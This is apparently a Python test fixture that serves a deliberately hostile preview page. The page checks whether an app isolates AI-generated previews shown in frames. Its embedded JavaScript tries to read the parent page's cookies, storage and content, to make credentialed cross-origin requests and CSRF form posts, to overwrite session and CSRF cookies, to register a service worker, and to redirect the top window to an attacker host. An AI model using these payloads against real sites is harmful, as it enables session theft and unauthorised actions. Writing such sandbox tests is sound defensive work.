"""A preview that attacks the page around it, for tests of those who show previews in frames. It
tries everything at once and lists what came of it."""

from __future__ import annotations

WORDS = "attack the page around"

SCRIPT = """
"use strict";
const around = location.ancestorOrigins?.[0] ?? "";
const tries = {
  "read the cookies of the page around": () => parent.document.cookie,
  "read its storage": () => Object.keys(parent.localStorage),
  "read its text": () => parent.document.body.innerText,
  "read cookies of its name": () => /session|csrf/.exec(document.cookie) ?? fail("there are none"),
  "read one of its pages": async () =>
    (await fetch(around + "/", {credentials: "include"})).text(),
  "read the names of its teams": async () => {
    const answer = await fetch(around + "/", {credentials: "include", mode: "no-cors"});
    return (await answer.text()) || fail("the answer is closed");
  },
  "load it in a frame": () => new Promise((found, failed) => {
    const frame = document.createElement("iframe");
    frame.onload = () => {
      try { found(frame.contentDocument.cookie); } catch (error) { failed(error); }
    };
    frame.src = around + "/";
    document.body.append(frame);
  }),
  "put a service worker before it": () =>
    navigator.serviceWorker.register(around + "/static/js/app.js", {scope: around + "/"}),
  "take its place": () => { top.location.href = "https://attacker.invalid/"; },
  "open something in its place": () =>
    window.open("https://attacker.invalid/", "_top") ?? fail("nothing opened"),
};
// What nobody could see the outcome of from in here; the tests look outside.
const blind = [
  () => fetch(around + "/teams/new/", {
    method: "POST", mode: "no-cors", credentials: "include",
    body: new URLSearchParams({name: "Stolen by fetch"}),
  }).catch(() => 0),
  () => {
    const form = document.createElement("form");
    Object.assign(form, {method: "post", action: around + "/teams/new/", target: "aside"});
    form.innerHTML = '<input name="name" value="Stolen by form">';
    const frame = document.createElement("iframe");
    frame.name = "aside";
    document.body.append(frame, form);
    form.submit();
    return new Promise((done) => { frame.onload = done; });
  },
  () => {
    for (const domain of ["", "; domain=localhost", "; domain=" + new URL(around).hostname])
      document.cookie = "sessionid=tossed; path=/" + domain;
  },
  async () => {
    for (const domain of ["", "; Domain=localhost", "; Domain=" + new URL(around).hostname])
      for (const pair of ["sessionid=thrown", "csrftoken=thrown", "=sessionid=thrown", "own=kept"])
        await fetch(answering({"set-cookie": pair + "; Path=/" + domain}));
  },
  () => fetch(answering({"clear-site-data": '"*"'})),
  () => fetch(answering({"access-control-allow-origin": around, "report-to": "{}",
    "access-control-allow-credentials": "true", "reporting-endpoints": `all="${around}/"`})),
  () => navigator.serviceWorker?.register(
    answering({"content-type": "text/javascript", "service-worker-allowed": "/"}), {scope: "/"},
  ).catch(() => 0),
  ...[
    {status: "302", location: around + "/teams/new/"},
    {refresh: "0; url=" + around + "/teams/new/", "content-type": "text/html"},
    {link: `<${around}/teams/new/>; rel=preload; as=script`, "content-type": "text/html",
     "content-security-policy": "frame-ancestors *; report-uri " + around},
  ].map((headers) => () => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.onload = () => setTimeout(done, 500);
    frame.src = answering(headers);
    document.body.append(frame);
  })),
];
function answering(headers) { return "echo?" + new URLSearchParams(headers); }
function fail(why) { throw new Error(why); }
function tell(name, outcome) {
  const item = document.createElement("li");
  item.textContent = name + ": " + outcome;
  document.querySelector("ul").append(item);
}
(async () => {
  for (const [name, act] of Object.entries(tries)) {
    try { await act(); tell(name, "DONE"); } catch (error) { tell(name, "refused, " + error.name); }
  }
  for (const act of blind) await act();
  document.querySelector("h1").textContent = "Everything was tried";
})();
"""
PAGE = (
    '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Hostile</title></head>'
    f"<body><h1>Trying</h1><ul></ul><script>{SCRIPT}</script></body></html>"
)


def is_wanted(prompts: tuple[str, ...]) -> bool:
    """Whether one of the chat's prompts asks for this page."""
    return any(WORDS in prompt.lower() for prompt in prompts)
